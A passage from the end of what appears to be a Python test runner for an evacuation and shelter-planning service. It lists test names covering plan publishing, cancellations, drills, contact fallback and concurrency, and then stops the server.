    run([a_plan_is_made_on_a_worker_and_told_on_the_stream, the_plan_comes_as_geojson_csv_and_a_printable_page,
         staff_move_a_household_to_another_shelter,
         publishing_tells_everyone_where_to_go,
         bad_requests_and_other_missions_are_refused,
         two_publishes_at_once_publish_one_plan,
         a_plan_older_than_the_published_one_is_refused,
         publishing_leaves_out_the_deleted_the_dead_and_the_gone,
         a_closed_crisis_takes_no_plans,
         a_move_keeps_departures_in_the_planners_order,
         repeated_statuses_are_one_set,
         plan_messages_of_a_drill_are_marked_and_sent_as_written,
         people_a_new_plan_drops_are_told_their_instructions_are_cancelled,
         a_plan_whose_shelter_closed_or_filled_is_not_published,
         a_plan_names_the_contact_that_reaches_people,
         a_fractional_max_km_is_kept_to_the_metre,
         one_plan_is_made_at_a_time_per_crisis,
         a_household_with_no_known_place_moves_only_to_an_assembly_point,
         a_household_too_large_for_the_planner_is_left_out_alone,
         a_new_plan_withdraws_the_earlier_plans_messages_not_sent,
         arrivals_are_not_counted_twice_at_their_shelter,
         a_plan_whose_shelter_lost_the_care_a_household_needs_is_not_published,
         people_placed_with_no_contact_are_listed_undelivered,
         a_household_is_planned_from_where_a_member_is,
         deleted_people_pull_nobody_into_a_plan,
         a_plan_names_a_confirmed_email_before_an_unconfirmed_phone,
         a_second_quick_publish_keeps_the_cancellation,
         a_cancellation_under_way_outlives_instructions_withdrawn_unsent,
         a_plan_message_that_fails_goes_to_the_next_contact,
         a_plan_being_made_can_be_given_up_and_a_stopped_server_leaves_none,
         the_crisis_is_checked_before_the_servers_limit,
         a_plan_over_twenty_thousand_people_is_made])
finally:
    d.stop()
